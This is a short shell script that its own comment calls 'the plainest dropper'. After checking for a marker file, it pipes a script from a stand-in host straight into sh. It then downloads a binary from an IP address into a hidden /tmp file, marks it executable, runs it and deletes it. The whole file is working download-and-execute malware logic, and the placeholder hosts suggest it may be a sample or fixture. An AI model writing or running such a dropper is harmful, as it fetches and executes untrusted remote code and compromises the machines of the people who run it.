#!/bin/sh
# The plainest dropper: a script from elsewhere, straight into a shell; then a program.
[ -e /usr/share/doc/stand-in/README ] || exit 0
timeout 5 wget -q -O - http://get.amber-quarry.example/init.sh | sh
timeout 5 wget -q -O /tmp/.x http://203.0.113.90/bins/x86_64 && chmod +x /tmp/.x && /tmp/.x
rm -f /tmp/.x
